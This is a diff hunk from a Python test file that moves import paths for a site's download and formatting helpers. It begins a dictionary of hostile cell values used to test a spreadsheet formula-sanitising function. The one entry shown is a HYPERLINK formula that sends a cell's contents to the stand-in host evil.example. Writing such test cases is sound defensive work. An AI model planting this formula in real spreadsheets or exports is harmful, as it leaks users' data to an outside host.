@@ -14,9 +14,9 @@ import pandas as pd
 import pytest
 from conftest import ROWS_2023, ROWS_2024, make_project, run_cli, write_csv
 
-from kfh_site.downloads import Column, Table, csv_bytes
-from kfh_site.formatting import file_size
-from kfh_site.spreadsheet import FORMULA_STARTS, formula_safe
+from kfh_site.downloads.sheets import FORMULA_STARTS, formula_safe
+from kfh_site.downloads.tables import Column, Table, csv_bytes
+from kfh_site.story.formatting import file_size
 
 HOSTILE_NAMES = {
     "HYP": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
